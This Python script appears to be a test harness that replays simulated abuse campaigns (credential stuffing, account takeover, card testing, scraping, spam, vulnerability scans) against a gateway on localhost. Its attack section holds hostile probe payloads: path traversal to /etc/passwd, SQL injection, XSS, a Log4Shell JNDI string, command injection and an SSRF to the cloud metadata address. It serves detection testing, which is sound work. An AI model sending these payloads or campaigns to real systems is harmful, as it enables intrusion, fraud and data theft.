"""Real clients against a gateway: python-requests, httpx, aiohttp and http.client, each campaign from addresses of its own.

Usage: real-clients.py PORT. The gateway trusts X-Forwarded-For from loopback, so that campaigns can come from many networks.
"""

import asyncio
import base64
import http.client
import json
import sys

import aiohttp
import httpx
import requests

PORT = int(sys.argv[1])
BASE = f"http://127.0.0.1:{PORT}"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
GPTBOT = "Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)"
REQUESTS = requests.Session()
HTTPX = httpx.Client(follow_redirects=False)
CONNECTION = http.client.HTTPConnection("127.0.0.1", PORT)
turn = 0


def jwt(subject):
    body = base64.urlsafe_b64encode(json.dumps({"sub": subject}).encode()).decode().rstrip("=")
    return f"Bearer eyJhbGciOiJub25lIn0.{body}.x"


def basic(name, password):
    return "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()


def send(method, path, ip, account=None, password=None, agent=BROWSER, **headers):
    """One request by one of three libraries in turn; a campaign from one address keeps its library."""
    wire = {"X-Forwarded-For": ip, "User-Agent": agent, **{k.replace("_", "-"): v for k, v in headers.items()}}
    if account and password:
        wire["Authorization"] = basic(account, password)
    elif account:
        wire["Authorization"] = jwt(account)
    library = sum(map(ord, ip.rsplit(".", 1)[0])) % 3
    if library == 0:
        REQUESTS.cookies.clear()
        return REQUESTS.request(method, BASE + path, headers=wire, allow_redirects=False).status_code
    if library == 1:
        HTTPX.cookies.clear()
        return HTTPX.request(method, BASE + path, headers=wire).status_code
    CONNECTION.request(method, path, headers=wire)
    answer = CONNECTION.getresponse()
    answer.read()
    return answer.status


def many(count, method, path, ip, **more):
    """`path`, `ip` and the other texts are formatted with the count `n`."""
    for n in range(1, count + 1):
        fill = lambda text: text.format(n=n, m=n % 9, k=n * 37, h=n * 7919 % 99991) if isinstance(text, str) else text
        send(method, fill(path), fill(ip), **{key: fill(value) for key, value in more.items()})


async def burst(count, path, ip, agent=BROWSER):
    async with aiohttp.ClientSession(headers={"X-Forwarded-For": ip, "User-Agent": agent}) as session:
        for n in range(count):
            async with session.get(BASE + path.format(n=n)) as answer:
                await answer.read()


def passwords():
    many(14, "POST", "/login", "10.100.1.1", account="name{n}", password="pw{n}")
    many(45, "POST", "/login", "10.101.{n}.2", account="other{n}", password="leak{n}")
    many(14, "POST", "/login", "10.102.1.1", account="victim", password="guess{n}")
    many(14, "POST", "/login", "10.103.1.1", account="spray{n}", password="Winter")
    many(30, "POST", "/login", "10.10{m}.8.{n}", account="world{n}", password="Summer")
    many(18, "POST", "/login", "10.1.{n}.4", account="cloud{n}", password="x{n}")
    many(12, "POST", "/login", "10.7.{n}.4", account="home{n}", password="x{n}")
    many(14, "POST", "/login", "10.103.{n}.7", account="chased", password="x{n}")
    many(12, "POST", "/mfa", "10.104.1.1", account="second")
    many(8, "POST", "/mfa", "10.104.2.1", account="second{n}")
    many(12, "POST", "/forgot", "10.104.3.1", account="lost{n}")
    many(24, "POST", "/forgot", "10.104.33.1", account="lost{n}", agent="kit {m}")
    many(8, "GET", "/reset?token=t{n}", "10.104.4.1")
    many(14, "POST", "/auth/check", "10.104.5.1", account="name{n}")
    many(8, "POST", "/admin/login", "10.104.6.1")
    many(20, "GET", "/api/me", "10.104.7.1", Authorization="Basic guess{n}")
    for n in range(6):
        send("POST", "/login", "10.104.8.1", account=f"lucky{n}", password="right")
        send("GET", "/api/statements", "10.104.8.1", account=f"lucky{n}")
    for n in range(18):
        send("POST", "/login", "10.105.44.1", account=f"known{n}", password="right", agent=f"own {n}")
    for n in range(9):
        send("POST", "/login", "10.105.45.1", account=f"misses{n}", password="bad")
    send("POST", "/login", "10.105.45.1", account="hit", password="right")
    many(2, "POST", "/login", "10.105.45.1", account="after{n}", password="bad")


def takeovers():
    send("POST", "/login", "10.100.50.1", account="owner", password="right")
    for path in ("/login", "/account/email", "/account/password", "/payees", "/account/export", "/account/mfa", "/sim/swap"):
        send("POST", path, "10.106.50.1", account="owner", password="right", agent="Mozilla/5.0 (other)")
    send("GET", "/account/export", "10.106.50.1", account="owner", password="right", agent="Mozilla/5.0 (other)")
    many(5, "POST", "/payout", "10.106.50.1", account="owner", password="right", agent="Mozilla/5.0 (other)")
    many(8, "POST", "/account/settings", "10.10{m}.51.1", account="hopper")
    many(9, "GET", "/account", "10.106.52.1", account="token{n}", agent="k{n}")
    send("POST", "/password/reset", "10.106.53.1", account="fresh")
    send("POST", "/esim/activate", "10.106.53.1", account="fresh")
    send("POST", "/payout", "10.106.53.1", account="fresh")
    many(10, "GET", "/api/sim/eligibility", "10.106.54.1", account="number{n}")
    many(5, "POST", "/sim/pin", "10.106.55.1", account="pin")
    many(12, "POST", "/port-out", "10.10{m}.56.{n}", account="port{n}")
    many(5, "POST", "/sim/swap", "10.106.57.1", account="moved{n}", agent="v{n}")


def accounts():
    many(6, "POST", "/signup", "10.107.1.1", account="new{n}")
    many(14, "POST", "/signup", "10.107.2.1", account="mass{n}", agent="v{n}")
    many(30, "POST", "/signup", "10.10{m}.3.{n}", account="spread{n}", agent="one look")
    many(12, "POST", "/signup", "10.107.4.{n}", account="subnet{n}", agent="v{n}")
    many(5, "POST", "/signup", "10.1.{n}.5", account="server{n}")
    many(8, "POST", "/signup", "10.2.{n}.5", account="vpn{n}")
    many(12, "POST", "/signup/bad", "10.107.5.1", account="refused{n}")
    many(3, "POST", "/trial", "10.107.6.1", account="try{n}")
    many(8, "POST", "/trial", "10.107.7.1", account="again{n}", agent="v{n}")
    many(170, "POST", "/v1/completions", "10.107.8.1", account="burner")
    many(24, "POST", "/v1/completions", "10.107.9.1", Authorization="Bearer key{m}")
    many(8, "POST", "/referral/accept", "10.107.10.1", account="friend{n}", agent="v{n}")
    many(30, "POST", "/invites", "10.107.11.1", account="star")
    many(8, "POST", "/coupon/ok", "10.107.12.1", account="stack")


def money():
    many(12, "GET", "/giftcard/balance?card={h}", "10.108.1.1")
    many(10, "POST", "/giftcard", "10.108.2.1")
    many(40, "POST", "/giftcard", "10.10{m}.9.{n}", agent="gift tool")
    many(16, "GET", "/api/giftcard/{n}", "10.108.3.1")
    many(14, "POST", "/coupon", "10.108.4.1")
    many(8, "POST", "/api/coupon", "10.108.5.1")
    many(30, "GET", "/coupon?code=A{h}", "10.108.6.1")
    many(8, "GET", "/api/loyalty", "10.108.7.1", account="member{n}")
    many(14, "GET", "/loyalty/member/{n}", "10.108.8.1")
    many(10, "POST", "/payment", "10.108.9.1")
    many(26, "POST", "/payment", "10.108.10.1", agent="c{n}")
    many(40, "POST", "/payment", "10.10{m}.11.{n}", agent="card tool")
    many(12, "POST", "/payment/verify", "10.108.12.1", account="cracked")
    many(10, "POST", "/cards/add", "10.108.13.1", account="adder")
    many(36, "POST", "/payment", "10.108.14.{m}", agent="s{n}")
    many(4, "POST", "/payment", "10.4.1.1")
    many(9, "POST", "/payment", "10.108.15.1", account="buyer{n}", agent="v{n}")
    for n in range(3):
        send("POST", "/cart", "10.108.16.1")
    many(9, "POST", "/basket", "10.108.17.1")
    many(80, "GET", "/api/stock?sku=7", "10.108.18.1")
    many(8, "POST", "/checkout", "10.108.19.1", account="hand{n}", agent="v{n}")
    many(8, "POST", "/checkout", "10.108.20.1", account="hoarder")
    many(14, "POST", "/checkout", "10.108.21.{n}", account="row{n}", agent="v{n}")
    many(16, "POST", "/checkout", "10.10{m}.22.{n}", account="fleet{n}", agent="fleet")
    many(16, "POST", "/queue", "10.108.23.1", agent="v{n}")
    many(26, "POST", "/raffle/enter", "10.108.24.1", account="r{n}", agent="v{n}")
    many(12, "POST", "/reserve", "10.108.25.1")
    many(20, "POST", "/seats/{n}/hold", "10.108.26.1", agent="v{n}")
    many(34, "POST", "/reserve", "10.10{m}.27.{n}", agent="holder")
    many(34, "POST", "/reserve", "10.108.28.{n}", agent="v{n}")
    many(6, "POST", "/booking", "10.108.29.1", account="h{n}")
    many(14, "POST", "/auction/{k}/bid", "10.108.30.1", account="sniper")
    many(12, "POST", "/auction/7/bid", "10.108.31.1", account="shill{n}", agent="v{n}")
    many(6, "POST", "/cart?quantity=999", "10.108.32.1")


def scraping():
    many(20, "GET", "/product/{n}", "10.109.1.1")
    many(70, "GET", "/product/{k}", "10.109.2.1")
    many(90, "GET", "/api/stock?sku={n}&zip={k}", "10.109.3.1")
    many(44, "GET", "/api/inventory?sku={k}", "10.10{m}.4.{n}", agent="grid tool")
    many(60, "GET", "/category/tea?page={n}", "10.109.5.1")
    many(5, "GET", "/api/products?limit=500&page={n}", "10.109.6.1")
    many(100, "GET", "/search?q=w{h}", "10.109.7.1")
    many(40, "GET", "/api/fares?date={n}", "10.109.8.1")
    many(36, "GET", "/product/{k}", "10.1.{m}.6")
    many(50, "GET", "/news/{k}", "10.109.9.1")
    many(24, "GET", "/news/{n}", "10.109.10.1")
    many(50, "GET", "/people/{k}", "10.109.11.1")
    many(60, "GET", "/users/u{k}", "10.109.12.1")
    many(140, "GET", "/members/{k}", "10.10{m}.13.1", agent="list tool")
    many(40, "GET", "/feed", "10.109.14.1")
    many(12, "GET", "/export?month={n}", "10.109.15.1", account="taker")
    many(44, "GET", "/api/prices/{k}", "10.109.16.1")
    many(60, "GET", "/docs/p{n}x", "10.109.17.1", agent=GPTBOT)
    many(3, "GET", "/account/orders?page={n}", "10.109.18.1", agent=GPTBOT)
    send("POST", "/checkout", "10.109.19.1", account="a", agent="ChatGPT-User/1.0")
    send("GET", "/", "10.1.9.9", agent=GPTBOT)
    many(12, "GET", "/guide/{k}", "10.1.10.10")
    many(20, "GET", "/api/me", "10.10{m}.20.1", Authorization="Bearer shared")
    many(8, "GET", "/api/transactions?page={n}", "10.109.21.1", account="hist")
    many(20, "GET", "/api/transactions?limit=500&page={n}", "10.109.22.1", account="hist2")


def nuisance():
    many(10, "POST", "/comments", "10.110.1.1", account="talker")
    many(2, "POST", "/comments", "10.110.2.1")
    many(12, "POST", "/blog/{k}/comments", "10.110.3.1", account="poster")
    many(20, "POST", "/comments", "10.10{m}.4.{n}", agent="poster tool")
    many(8, "POST", "/contact", "10.110.5.1")
    send("POST", "/contact", "10.4.6.1")
    many(42, "POST", "/inbox/{n}/message", "10.110.7.1", account="writer")
    many(20, "POST", "/upload", "10.110.8.1", account="up")
    send("POST", "/upload", "10.110.9.1")
    many(9, "POST", "/product/7/reviews", "10.110.10.1", account="r{n}", agent="v{n}")
    send("POST", "/wp-comments-post.php", "10.110.11.1")
    many(12, "POST", "/comments/bad", "10.110.12.1", account="filter")
    many(20, "POST", "/vote/7", "10.110.13.1", agent="v{n}")
    many(34, "POST", "/poll/1", "10.10{m}.14.{n}", agent="vote tool")
    many(10, "POST", "/vote/7", "10.110.15.1")
    many(50, "GET", "/search?q=brand", "10.110.16.1")
    many(12, "GET", "/click?ad={n}", "10.110.17.1")
    many(3, "GET", "/click?ad={n}", "10.1.18.1")
    many(44, "GET", "/api/click?ad=1", "10.10{m}.19.{n}", agent="ad tool")
    many(140, "POST", "/impressions", "10.110.20.1")
    many(9, "GET", "/page{n}", "10.110.21.1", Referer="https://spam{n}.example/x")
    many(10, "POST", "/captcha/verify", "10.110.22.1")
    many(24, "POST", "/captcha", "10.110.23.1", agent="v{n}")
    many(6, "POST", "/captcha", "10.10{m}.24.1", account="farm")


def attacks():
    for path in (
        "/.env", "/.git/config", "/actuator/env", "/phpmyadmin/", "/wp-login.php", "/xmlrpc.php", "/shell.php", "/backup.zip",
        "/db.sql", "/www.bak", "/swagger.json", "/openapi.json", "/v2/api-docs", "/vendor/phpunit/x", "/solr/admin", "/_ignition/x",
        "/HNAP1/", "/adminer.php", "/manager/html", "/webmin/", "/readme.html", "/CHANGELOG.txt", "/license.txt",
        "/download?file=../../etc/passwd", "/product?id=1%27%20or%201=1--", "/product?id=2%20union%20select%201",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?x=%24%7Bjndi:ldap://e.example/a%7D", "/ping?host=1;cat+/etc/hosts",
        "/fetch?url=http://169.254.169.254/latest",
    ):
        send("GET", path, "10.111.1.1")
    many(40, "GET", "/guess-{n}x", "10.111.2.1")
    many(26, "HEAD", "/page-{n}z", "10.111.3.1")
    many(12, "OPTIONS", "/api/part-{n}z", "10.111.4.1")
    send("PROPFIND", "/", "10.111.5.1")
    send("GET", "/", "10.111.6.1", X_HTTP_Method_Override="DELETE")
    many(14, "GET", "/api/broken?id={n}", "10.111.7.1")
    many(100, "GET", "/guess{n}y", "10.111.8.{m}", agent="scanner-{m}")
    send("GET", "/robots.txt", "10.111.9.1")
    many(2, "GET", "/admin/", "10.111.9.1")
    many(16, "GET", "/", "10.111.10.1", agent="probe {n}")
    asyncio.run(burst(420, "/a{n}b", "10.111.11.1"))
    many(60, "GET", "/?{h}=x{h}", "10.111.12.1")
    many(70, "POST", "/v1/embeddings", "10.111.13.1", account="embed")
    many(40, "POST", "/graphql", "10.111.14.1")
    many(40, "GET", "/api/limited", "10.111.15.1")
    many(20, "POST", "/sms/send", "10.111.16.1", account="s{n}", agent="v{n}")
    many(16, "GET", "/api/orders/{n}", "10.111.17.1", account="walker")
    many(14, "GET", "/api/invoices/{n}", "10.111.18.1", account="prober")
    many(130, "GET", "/api/customers/{k}", "10.111.19.1", Authorization="Bearer reader")
    many(16, "GET", "/api/me", "10.111.20.1", Authorization="Bearer t{n}")
    many(12, "POST", "/api/items", "10.111.21.1")
    send("GET", "/api/users?limit=5000", "10.111.22.1", account="bulk")
    send("POST", "/api/profile?role=admin", "10.111.23.1", account="riser")
    many(5, "GET", "/api/admin/users", "10.111.24.1", account="nosy")
    many(18, "POST", "/api/bad", "10.111.25.1")
    many(110, "GET", "/api/status", "10.111.26.1")
    many(2, "POST", "/comments", "10.8.1.1")
    send("POST", "/payout", "10.3.1.1", account="dark")
    many(6, "POST", "/login", "10.4.2.1", account="p{n}", password="right", agent="v{n}")
    many(8, "GET", "/a{n}x", "10.1.27.1")
    many(14, "GET", "/product/{n}", "10.7.{n}.9", agent="home look")
    many(36, "GET", "/", "10.112.9.{n}", agent="farm {n}")
    many(30, "GET", "/p{n}x", "10.111.28.1", agent="turn {m}{n}")
    send("GET", "/", "10.111.29.1", X_Playwright="1")
    many(12, "GET", "/p{n}x", "10.111.30.1", agent="Mozilla/5.0 (Windows NT 10.0 AppleWebKit Chrome/")
    many(16, "GET", "/p{n}x", "10.111.31.1", agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.0.0 Safari/537.36")
    many(9, "GET", "/api/cart", "10.111.32.1", Cookie="made{n}=1")


for campaign in (passwords, takeovers, accounts, money, scraping, nuisance, attacks):
    campaign()
